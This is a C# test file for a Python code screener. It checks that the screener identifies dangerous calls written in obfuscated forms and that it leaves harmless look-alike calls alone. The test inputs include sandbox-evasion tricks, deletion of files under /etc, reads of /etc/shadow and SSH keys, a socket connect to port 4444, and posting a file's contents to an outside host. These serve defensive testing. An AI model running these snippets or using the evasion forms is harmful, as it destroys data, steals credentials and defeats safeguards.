namespace InterpreterGuard.Screening.Tests;

/// <summary>What a Python text calls, however it is written; and neighbours that must not be taken for it.</summary>
public sealed class PythonCallTests(ParserContainer parser)
{
    public static TheoryData<string, string> Named => new()
    {
        { "import os\nos.system('id')", "os.system(id)" },
        { "import os as o\no.system('id')", "os.system(id)" },
        { "from os import system\nsystem('id')", "os.system(id)" },
        { "from os import system as s\ns('id')", "os.system(id)" },
        { "from os import *\nsystem('id')", "os.system(id)" },
        { "from os import *\nfrom math import *\nsystem('id')", "os.system(id)" },
        { "import os\ns = os.system\ns('id')", "os.system(id)" },
        { "import os\nfor folder, _, names in os.walk('/etc/'):\n    for name in names:\n        os.remove(os.path.join(folder, name))", "os.remove(/etc/…/…)" },
        { "import os\na = b = os\nb.system('id')", "os.system(id)" },
        { "import os\ngetattr(os, 'sys' + 'tem')('id')", "os.system(id)" },
        { "import os\ngetattr(os, 'metsys'[::-1])('id')", "os.system(id)" },
        { "import os\nos.__dict__['system']('id')", "os.system(id)" },
        { "import os\nvars(os)['system']('id')", "os.system(id)" },
        { "__import__('os').system('id')", "os.system(id)" },
        { "__import__('o' + 's').system('id')", "os.system(id)" },
        { "__builtins__.__import__('os').system('id')", "os.system(id)" },
        { "__builtins__.__dict__['__import__']('os').system('id')", "os.system(id)" },
        { "import builtins\nbuiltins.__import__('os').system('id')", "os.system(id)" },
        { "import builtins\ngetattr(builtins, 'ex' 'ec')('x = 1')", "builtins.exec(x = 1)" },
        { "import importlib\nimportlib.import_module('os').system('id')", "os.system(id)" },
        { "from importlib import import_module as im\nm = im('subprocess')\nm.run(['id'])", "subprocess.run(id)" },
        { "import sys\nsys.modules['os'].system('id')", "os.system(id)" },
        { "import os\nglobals()['os'].system('id')", "os.system(id)" },
        { "import shutil\nshutil.os.system('id')", "os.system(id)" },
        { "import posix\nposix.system('id')", "os.system(id)" },
        { "eval('__import__(\"os\")').system('id')", "os.system(id)" },
        { "import os\neval('os.system')('id')", "os.system(id)" },
        { "import os\n(lambda f: f('id'))(os.system)", "os.system(id)" },
        { "import os\ndef run(c):\n    os.system(c)\nrun('id')", "os.system(id)" },
        { "import os\ndef run(f, *a, **k):\n    f(*a)\nrun(os.system, 'id')", "os.system(id)" },
        { "def late():\n    o.system('id')\nimport os as o", "os.system(id)" },
        { "import os\nclass A:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nA('id').go()", "os.system(id)" },
        { "import os\nclass A:\n    @staticmethod\n    def go(c):\n        os.system(c)\nA.go('id')", "os.system(id)" },
        { "import os\nfor c in ['id', 'ls']:\n    os.system(c)", "os.system(ls)" },
        { "import os\nif input():\n    os.system('id')", "os.system(id)" },
        { "import os\ntry:\n    pass\nexcept Exception:\n    os.system('id')", "os.system(id)" },
        { "import os\nmatch 1:\n    case 1:\n        os.system('id')", "os.system(id)" },
        { "import os\nasync def main():\n    os.system('id')", "os.system(id)" },
        { "import os\nx = [os.system(c) for c in ('id', 'ls')]", "os.system(ls)" },
        { "import os\nlist(map(os.system, ['id']))", "os.system(id)" },
        { "import os, functools\nfunctools.partial(os.system, 'id')()", "os.system(id)" },
        { "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", "os.system(id)" },
        { "import os, atexit\natexit.register(os.system, 'id')", "os.system(id)" },
        { "import os\nd = {'a': 'id'}\nos.system(d['a'])", "os.system(id)" },
        { "import os\nif (s := os.system):\n    s('id')", "os.system(id)" },
        { "import os\nos.system(command='id')", "os.system(id)" },
        { "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))", "socket.socket.connect(10.0.0.1 4444)" },
        { "import socket\nwith socket.socket() as s:\n    s.connect(('10.0.0.1', 4444))", "socket.socket.connect(10.0.0.1 4444)" },
        { "from socket import *\ns = socket(AF_INET, SOCK_RAW)", "socket.socket(socket.AF_INET socket.SOCK_RAW)" },
        { "def f(x):\n    x.connect(('10.0.0.1', 1))", ".connect(10.0.0.1 1)" },
        { "open('/etc/shadow').read()", "builtins.open(/etc/shadow)" },
        { "import io\nio.open('/etc/shadow')", "builtins.open(/etc/shadow)" },
        { "from pathlib import Path\nopen(Path.home() / '.ssh' / 'id_rsa')", "builtins.open(~/.ssh/id_rsa)" },
        { "import os\nopen(os.path.join('/etc', 'shadow'))", "builtins.open(/etc/shadow)" },
        { "import ctypes\nctypes.CDLL(None).ptrace(0)", "ctypes.CDLL.ptrace(0)" },
        { "x = ().__class__.__bases__[0].__subclasses__()", ".__class__.__bases__.__subclasses__()" },
        { "def f(base):\n    return base.__subclasses__()", ".__subclasses__()" },
        { "import requests\nrequests.post('http://a.example/x', data=open('f'))", "requests.post(http://a.example/x)" },
        { "import requests\ns = requests.Session()\ns.get(url='http://a.example')", "requests.Session.get(http://a.example)" },
    };

    [Theory]
    [MemberData(nameof(Named))]
    public async Task A_call_is_named_however_it_is_written(string code, string call)
    {
        var report = await Screening.Screener(parser).PythonAsync(code);

        Assert.Contains(call, report.Calls());
    }

    public static TheoryData<string, string> Spared => new()
    {
        { "class os:\n    @staticmethod\n    def system(c):\n        pass\nos.system('id')", "os.system" },
        { "def system(c):\n    return c\nsystem('id')", "os.system" },
        { "system = print\nsystem('id')", "os.system" },
        { "import platform\nplatform.system()", "os.system" },
        { "import os\nos.getcwd()", "os.system" },
        { "import os\nos = None\nos.system('id')", "os.system" },
        { "'''\nimport os\nos.system('id')\n'''", "os.system" },
        { "# os.system('id')\nx = 1", "os.system" },
        { "print(\"os.system('id')\")", "os.system" },
        { "import re\nre.compile('a+')", "builtins.compile" },
        { "import pandas as pd\ndf = pd.DataFrame()\ndf.eval('a + b')", "builtins.eval" },
        { "def exec(x):\n    return x\nexec('x')", "builtins.exec" },
        { "cursor = db.cursor()\ncursor.exec('select 1')", "builtins.exec" },
        { "model.connect('a')", "socket.socket.connect" },
        { "import sqlite3\nc = sqlite3.connect('a.db')", "socket.socket.connect" },
        { "open = lambda p: p\nopen('/etc/shadow')", "builtins.open" },
        { "import numpy as np\na = np.ones((3, 3))\nb = a[1:, ::2]\na[:1] = b[:, 0]\ndel a[1:2], b[...]", "builtins.open" },
    };

    [Theory]
    [MemberData(nameof(Spared))]
    public async Task A_neighbour_is_not_taken_for_the_call(string code, string name)
    {
        var report = await Screening.Screener(parser).PythonAsync(code);

        Assert.DoesNotContain(report.Facts.OfType<Core.Facts.CodeCall>(), call => call.Name == name);
        Assert.DoesNotContain(report.Facts, fact => fact is Core.Facts.CodeUnreadable);
    }
}
